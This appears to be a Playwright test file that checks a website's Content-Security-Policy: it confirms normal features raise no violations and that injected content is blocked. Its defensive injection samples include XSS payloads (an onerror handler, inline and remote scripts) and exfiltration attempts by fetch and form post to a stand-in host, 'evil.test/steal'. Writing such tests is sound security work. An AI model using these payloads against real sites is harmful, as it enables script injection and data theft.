/** The Content-Security-Policy in a real browser: the site needs nothing it refuses, and nothing gets around it. */
import { expect, type Page, test } from "@playwright/test";
import { analytics } from "../setup/analytics";
import { isThere, routes } from "../setup/routes";
import { service } from "../setup/services";
import { linkTo, words } from "../setup/words";
import { enquiryWords } from "../setup/form-words";
import { searchResults, typeQuery } from "./search-dialog";
import { openPage, scrollThrough } from "./site";
import { standForThirdParties } from "./visitor";

/** Collects violations of any policy. To be called before the page is opened. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener("securitypolicyviolation", (event) => {
      violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
  return () => page.evaluate<string[]>("window.violations");
}

test("dialogs, maps, theme, search and navigation violate nothing", async ({ page }) => {
  await standForThirdParties(page);
  const violations = await watchPolicy(page);
  await openPage(page, "/");
  await scrollThrough(page);
  await page.getByRole("button", { name: words.home.hero.action.label }).click();
  await expect(page.getByTitle(words.scheduling.calendar)).toBeVisible();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: words.company.map.showLabel }).click();
  await expect(page.getByTitle(words.company.map.title, { exact: true })).toBeVisible();
  await page.getByRole("switch", { name: words.labels.darkTheme }).first().click();
  await page.keyboard.press("Control+k");
  await typeQuery(page, service.title);
  await expect(searchResults(page).first()).toBeVisible();
  await page.keyboard.press("Escape");
  for (const to of ["/about-us", "/service", "/case-study", "/contact-us"].filter(isThere)) {
    await page
      .getByRole("navigation")
      .getByRole("link", { name: linkTo(to) })
      .first()
      .click();
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await scrollThrough(page);
  }
  await page.getByRole("button", { name: enquiryWords.submit }).click();
  await expect(page.getByRole("link", { name: enquiryWords.error("name") })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test("every route has a strict policy, one style tag and no style attribute", async ({
  request,
}) => {
  for (const route of routes) {
    const response = await request.get(route);
    expect(response.headers()["content-security-policy"], route).toBe("frame-ancestors 'none'");
    const html = await response.text();
    const [, before = "", policy = ""] =
      /^(.*)<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html) ?? [];
    // Nothing comes before it, and browsers look for the charset in the first 1,024 bytes.
    expect(before, route).toMatch(/^<!DOCTYPE html><html[^>]*><head><meta charSet="utf-8"\/>$/);
    expect(policy, route).toMatch(/^default-src 'self'; /);
    expect(policy, route).not.toMatch(/unsafe|\*|http:/);
    const scripts = /script-src [^;]*/.exec(policy)?.[0].split(" ") ?? [];
    expect(scripts.filter((source) => source !== analytics).join(" "), route).toMatch(
      /^script-src 'self'( 'sha256-[^']+')+$/,
    );
    expect(html.match(/<style/g), route).toHaveLength(1);
    expect(html, route).not.toMatch(/<[^>]+ style=/);
  }
});

const injections = {
  "an inline script": () => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'attacked'";
    document.body.append(script);
  },
  "an event handler": () => {
    document.body.insertAdjacentHTML(
      "beforeend",
      `<img src="x" onerror="document.title='attacked'">`,
    );
  },
  "a style": () => {
    document.body.insertAdjacentHTML("beforeend", "<style>body{display:none}</style>");
  },
  "a style attribute": () => {
    document.body.insertAdjacentHTML("beforeend", `<p style="position:fixed">attacked</p>`);
  },
  "a script of another host": () => {
    const script = document.createElement("script");
    script.src = "https://evil.test/script.js";
    document.body.append(script);
  },
  "a base address": () => {
    const base = document.createElement("base");
    base.href = "https://evil.test/";
    document.head.append(base);
  },
  "an iframe of another host": () => {
    const frame = document.createElement("iframe");
    frame.src = "https://evil.test/";
    document.body.append(frame);
  },
  "a text as script": () => {
    Reflect.apply(setTimeout, window, ["document.title='attacked'"]);
  },
  "a connection to another host": () => {
    void fetch("https://evil.test/steal").catch(() => undefined);
  },
};

test("blocks what is injected into a page", async ({ page }) => {
  const requested = await standForThirdParties(page);
  const violations = await watchPolicy(page);
  await openPage(page, "/");
  for (const [name, inject] of Object.entries(injections)) {
    await test.step(name, async () => {
      const before = (await violations()).length;
      const hasThrown = await page.evaluate(inject).then(
        () => false,
        () => true,
      );
      await expect.poll(async () => hasThrown || (await violations()).length > before).toBe(true);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      expect(requested).toEqual([]);
    });
  }

  const refused = page.waitForEvent("console", (message) => message.text().includes("form-action"));
  await page.evaluate(() => {
    const form = document.createElement("form");
    form.action = "https://evil.test/steal";
    document.body.append(form);
    form.submit();
  });
  await refused;
  expect(requested, "a form to another host").toEqual([]);
});
